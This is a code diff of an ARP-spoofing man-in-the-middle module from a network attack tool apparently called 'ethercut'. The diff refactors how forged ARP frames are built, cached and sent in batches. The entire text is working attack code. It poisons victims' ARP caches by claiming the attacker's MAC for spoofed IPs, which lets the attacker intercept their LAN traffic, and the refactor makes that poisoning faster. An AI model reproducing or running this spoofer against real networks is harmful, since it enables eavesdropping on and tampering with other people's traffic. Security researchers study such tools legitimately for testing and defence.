@@ -11,15 +11,19 @@ Mitm by arp spoofing
 """
 
 import time
+import ethercut.net.frame as frame
 import ethercut.types.ticker as ticker
 import ethercut.mitm.base as base
 
 from ethercut.context import ctx
-from scapy.layers.l2 import Ether, ARP
 
 class ARPSpoofer(base.Spoofer):
+    """
+    ARP spoofer. The ARP frames are built once as raw bytes and cached, a frame is only
+    built again when the addresses it is made of (targets or interface) change.
+    """
 
-    __slots__ = [ "new", "curr", "group1", "group2" ]
+    __slots__ = [ "new", "curr", "group1", "group2", "cache", "prev", "frames" ]
 
     name = "ARP"
 
@@ -29,12 +33,19 @@ class ARPSpoofer(base.Spoofer):
         self.curr = []
         self.group1 = []
         self.group2 = []
+        # Frame cache of this and the previous round: {(op, hwsrc, psrc, hwdst, pdst, ethdst): frame}
+        self.cache = {}
+        self.prev = {}
+        # Frames to push in this round
+        self.frames = []
 
     def spoof(self):
         """
         Spoofing activity
         """
+        start = time.time()
         self.build_spoof_list()
+        self.new_round()
 
         for t1 in self.group1:
             for t2 in self.group2:
@@ -60,39 +71,34 @@ class ARPSpoofer(base.Spoofer):
             if not self.running:
                 break
 
+        ctx.injector.push_batch(self.frames)
+        self.sent.inc(len(self.frames))
+        self.round_time.observe(time.time() - start)
+
     def rearp(self):
         """
         Restores the cache of the victims
         """
+        self.new_round()
+        for t1 in self.group1:
+            for t2 in self.group2:
+                # Skip equal IP and MAC addresses
+                if t2.ip == t1.ip and t2.mac == t1.mac:
+                    continue
+                self.send_rearp(t1, t2)
+                if ctx.opt.attack.full_duplex:
+                    self.send_rearp(t2, t1)
+
         for x in xrange(2):
-            for t1 in self.group1:
-                for t2 in self.group2:
-                    # Skip equal IP and MAC addresses
-                    if t2.ip == t1.ip and t2.mac == t1.mac:
-                        continue
-                    self.send_rearp(t1, t2)
-                    if ctx.opt.attack.full_duplex:
-                        self.send_rearp(t2, t1)
+            ctx.injector.push_batch(self.frames)
             time.sleep(1)
 
     def stop(self):
+        if not self.running:
+            return
         super(ARPSpoofer, self).stop()
         self.rearp()    # Re-ARP the targets before terminating
 
-    def send_rearp(self, t1, t2):
-        """
-        Send a real reply to t1 as t2 to restore the cache.
-        """
-        rearp = Ether( src=t2.mac,
-                       dst=t1.mac,
-                       type=0x0806 ) /\
-                ARP( hwsrc=t2.mac,
-                     psrc=t2.ip,
-                     hwdst=t1.mac,
-                     pdst=t1.ip,
-                     op=2)
-        self.ctx.injector.push(rearp)
-
     def build_spoof_list(self):
         """
         Builds the spoofing list by dividing the current hosts in the target list in two groups
@@ -116,50 +122,46 @@ class ARPSpoofer(base.Spoofer):
 
         self.curr = ctx.targetlist.targets.values()
 
+    def new_round(self):
+        """
+        Starts a new round of frames. Only the frames used in this round will be kept in the cache
+        """
+        self.prev, self.cache = self.cache, {}
+        self.frames = []
+
+    def push_frame(self, *fields):
+        """
+        Adds an ARP frame to the current round, taking it from the cache if it was already built.
+
+        +param: fields - arp_frame() arguments, they also identify the frame in the cache
+        """
+        pkt = self.cache.get(fields) or self.prev.get(fields)
+        if pkt is None:
+            pkt = frame.arp_frame(*fields)
+        self.cache[fields] = pkt
+        self.frames.append(pkt)
+
     def send_spoofed_rep(self, target, ip):
         """
-        Pushes a spoofed ARP reply message to the packet injector queue.
+        Adds a spoofed ARP reply message to the frames of this round.
 
         +param:  target - Target instance representing the victim
         +param:  ip     - IP address to be spoofed
         """
-        spfd = Ether( src=ctx.iface.mac,
-                      dst=target.mac,
-                      type=0x0806 ) /\
-               ARP( hwsrc=ctx.iface.mac,
-                    psrc=ip,
-                    hwdst=target.mac,
-                    pdst=target.ip,
-                    op=2 )
-        ctx.injector.push(spfd)
+        self.push_frame(frame.ARP_REPLY, ctx.iface.mac, ip, target.mac, target.ip)
 
     def send_spoofed_req(self, target, ip):
         """
-        Pushes a spoofed ARP query message to the packet injector queue.
+        Adds a spoofed ARP query message to the frames of this round.
 
         +param:  target - Target instance representing the victim
         +param:  ip     - IP address to be spoofed
         """
-        spfd = Ether( src=ctx.iface.mac,
-                      dst="ff:ff:ff:ff:ff:ff",
-                      type=0x0806 ) /\
-               ARP( hwsrc=ctx.iface.mac,
-                    psrc=ip,
-                    hwdst="00:00:00:00:00:00",
-                    pdst=target.ip,
-                    op=1 )
-        ctx.injector.push(spfd)
+        self.push_frame(frame.ARP_REQUEST, ctx.iface.mac, ip, frame.ETH_ZERO, target.ip,
+                        frame.ETH_BROADCAST)
 
     def send_rearp(self, t1, t2):
         """
         Send a real reply to t1 as t2 to restore the cache
         """
-        rearp = Ether( src=t2.mac,
-                       dst=t1.mac,
-                       type=0x0806 ) /\
-                ARP( hwsrc=t2.mac,
-                     psrc=t2.ip,
-                     hwdst=t1.mac,
-                     pdst=t1.ip,
-                     op=2)
-        ctx.injector.push(rearp)
+        self.push_frame(frame.ARP_REPLY, t2.mac, t2.ip, t1.mac, t1.ip)